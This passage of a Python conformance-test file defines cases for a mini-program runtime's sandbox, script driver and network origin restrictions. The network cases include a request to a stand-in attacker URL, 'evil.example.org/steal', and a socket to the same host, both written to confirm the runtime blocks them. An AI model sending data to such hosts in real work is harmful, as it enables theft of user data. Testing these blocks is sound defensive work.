     onload="'use strict'; try { delete mp.getStorage } catch (e) {} try { mp.spy = 1 } catch (e) {} L('SB-3 ' + typeof mp.getStorage + ' ' + typeof mp.spy)",
     console=['SB-3 function undefined'])
case('sb-stack-overflow-in-callback', 'a stack overflow inside an API callback is contained', ['SB-11', 'CC-6'],
     onload="mp.getStorageInfo({ success: () => { const f = () => f(); f() }, complete: () => L('complete ran') })", console=['complete ran'])

# ---------------------------------------------------------------- DR: driver
case('dr-script-bad-line', 'an unknown script command: exit 2 with the line number', ['DR-1', 'DR-3'], script="wait 1\nfrobnicate now\n",
     exit_code=2, exit_status=None, stderr_contains=[':2: unknown command "frobnicate"'])
case('dr-call-unknown-method', 'calling a method the page lacks is reported, not fatal', ['DR-1'], level='SHOULD', script="call - nosuch\ncall - ping\n",
     page="Page({ ping() { console.log('pong') } })\n", console=['pong'])
case('dr-comments-blank', 'blank lines and # comments are skipped', ['DR-1'], script="# a comment\n\ncall - ping\n", page="Page({ ping() { console.log('pong') } })\n",
     console=['pong'])
case('dr-wait', 'wait lets the app run', ['DR-1'], onload="setTimeout(() => L('waited'), 30)", script="wait 100\n", console=['waited'])
case('dr-bad-world', 'a misspelt world member: exit 2 naming it', ['DR-3'], world={'walet': {}}, exit_code=2, exit_status=None, stderr_contains=['walet'])
case('dr-bad-world-device', 'a misspelt device member of the world: exit 2 naming its path', ['DR-3'], world={'device': {'gps': False}}, onload="L('ran')",
     exit_code=2, exit_status=None, stderr_contains=['"device.gps" is not a world field'], console_absent=['ran'])
case('dr-json-console-shape', 'console events carry level and message', ['DR-2', 'CO-1'], onload="console.warn('careful')",
     events=[{'type': 'console', 'level': 'warn', 'message': 'careful', 'app': 'org.conformance.dr-json-console-shape'}])
case('dr-json-lifecycle-shape', 'lifecycle events carry target, hook, route and options/query', ['DR-2', 'LC-2'], args=['--query', 'q=1'],
     events=[{'type': 'lifecycle', 'target': 'app', 'hook': 'onLaunch', 'options': {'path': 'pages/index/index', 'query': {'q': '1'}}},
             {'type': 'lifecycle', 'target': 'page', 'hook': 'onLoad', 'route': 'pages/index/index', 'query': {'q': '1'}},
             {'type': 'exit', 'status': 'ok'}])
case('dr-json-error-shape', 'error events carry kind, message and a virtual stack', ['DR-2', 'MD-6'], onload="null.boom",
     events=[{'type': 'error', 'kind': 'exception'}], errors=[{'kind': 'exception', 'message_contains': 'TypeError'}], output_absent=['$CASE_DIR'])


import wechat_cases  # noqa: E402,F401  (defines its cases on import)
import files_cases  # noqa: E402,F401  (defines its cases on import)


# ================================================================ NW: network (issue 22)
# This block is kept apart from the others (and last) so that it merges cleanly.
NW_DOMAINS = {'network_domains': ['https://api.example.com', 'wss://ws.example.com']}
NW_WORLD = {'network': {
    'routes': [
        {'method': 'GET', 'url': 'https://api.example.com/items', 'headers': {'Set-Cookie': 's=1'}, 'body': {'items': ['tea']}},
        {'method': 'POST', 'url': 'https://api.example.com/orders', 'status': 201, 'body': 'created'},
        {'url': 'https://api.example.com/slow', 'body': 'late', 'delay_ms': 3000},
    ],
    'sockets': [{'url': 'wss://ws.example.com/*', 'on_open': ['welcome'],
                 'rules': [{'match': 'equals', 'text': 'ping', 'reply': 'pong'}, {'match': 'equals', 'text': 'bye', 'close': True}]}],
}}
NW_REQ = "const req = (o) => new Promise((ok) => mp.request(Object.assign({}, o, { success: ok, fail: ok })));\n"
case('nw-undeclared-request', 'a request to an undeclared origin fails with 1003 naming it', ['NW-1'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://evil.example.org/steal?x=1' }); L('NW-1 ' + r.errCode + ' ' + r.errMsg)",
     console=[{'regex': '^NW-1 1003 request:fail url not in domain list: https://evil.example.org '}])
case('nw-undeclared-scheme', 'http to a declared host is another origin: 1003', ['NW-1'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'http://api.example.com/items' }); L('NW-1 ' + r.errCode + ' ' + r.errMsg)",
     console=[{'regex': '^NW-1 1003 request:fail url not in domain list: http://api.example.com '}])
case('nw-no-domains', 'a package that declares no domain reaches none', ['NW-1'], world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/items' }); L('NW-1 ' + r.errCode)", console=['NW-1 1003'])
case('nw-undeclared-socket', 'a socket to an undeclared origin fails with 1003, then onError and onClose', ['NW-1'], manifest=NW_DOMAINS, world=NW_WORLD,
     onload="const s = mp.connectSocket({ url: 'wss://evil.example.org/x', fail: (e) => L('NW-1 ' + e.errCode) }); s.onError(() => L('error')); s.onClose((c) => L('close ' + c.code))",
     console=['NW-1 1003', 'error', 'close 1006'])
manifest_error('nw-declare-http', 'declaring http:// to a host other than 127.0.0.1 or localhost is refused', ['NW-2', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["pages/index/index"], "network_domains": ["http://api.example.com"]}\n',
               ['network_domains[0]', 'http:// is allowed only for 127.0.0.1 and localhost'])
manifest_error('nw-declare-path', 'a domain entry with a path is refused', ['NW-2', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["pages/index/index"], "network_domains": ["https://api.example.com/v1"]}\n',
               ['network_domains[0]', 'must be an origin'])
case('nw-world-route', 'the world answers: status, header, cookies and the parsed JSON body', ['NW-3'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/items', data: { q: 'tea' } }); L('NW-3 ' + r.errMsg + ' ' + r.statusCode + ' ' + JSON.stringify(r.data) + ' ' + JSON.stringify(r.cookies) + ' ' + r.header['Content-Type'])",
     console=['NW-3 request:ok 200 {"items":["tea"]} ["s=1"] application/json'])
case('nw-world-method', 'routes match the method: POST gets its own route, text stays text', ['NW-3'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/orders', method: 'POST', data: { a: 1 } }); L('NW-3 ' + r.statusCode + ' ' + r.data)",
     console=['NW-3 201 created'])
case('nw-world-unmatched', 'a request no route matches fails with 1007 naming the method and URL', ['NW-4'], manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/items', method: 'DELETE' }); L('NW-4 ' + r.errCode + ' ' + r.errMsg)",
     console=[{'regex': '^NW-4 1007 request:fail no route in the world for DELETE "https://api.example.com/items"'}])
case('nw-task-abort', 'request returns a task; abort fails the call with request:fail abort', ['NW-5'], manifest=NW_DOMAINS, world=NW_WORLD,
     onload="const t = mp.request({ url: 'https://api.example.com/slow', success: () => L('NW-5 answered'), fail: (e) => L('NW-5 ' + e.errCode + ' ' + e.errMsg) }); L('task ' + typeof t.abort + ' ' + typeof t.onHeadersReceived); t.abort()",
     console=['task function function', 'NW-5 1004 request:fail abort'], console_absent=['NW-5 answered'])
case('nw-socket-peer', 'a socket talks to the world\'s scripted peer', ['NW-6'], manifest=NW_DOMAINS, world=NW_WORLD,
     onload="const s = mp.connectSocket({ url: 'wss://ws.example.com/chat' }); s.onOpen(() => { L('open'); s.send({ data: 'ping' }) }); s.onMessage((m) => { L('NW-6 ' + m.data); if (m.data === 'pong') s.send({ data: 'bye' }) }); s.onClose((c) => L('NW-6 close ' + c.code))",
     console=['open', 'NW-6 welcome', 'NW-6 pong', 'NW-6 close 1000'])
case('nw-timeout', 'an answer slower than the timeout fails with request:fail timeout', ['NW-7'], level='SHOULD', manifest=NW_DOMAINS, world=NW_WORLD,
     asyncload=NW_REQ + "const r = await req({ url: 'https://api.example.com/slow', timeout: 50 }); L('NW-7 ' + r.errMsg)",
     console=['NW-7 request:fail timeout'])
# ================================================================ end of NW

if __name__ == '__main__':
    write()
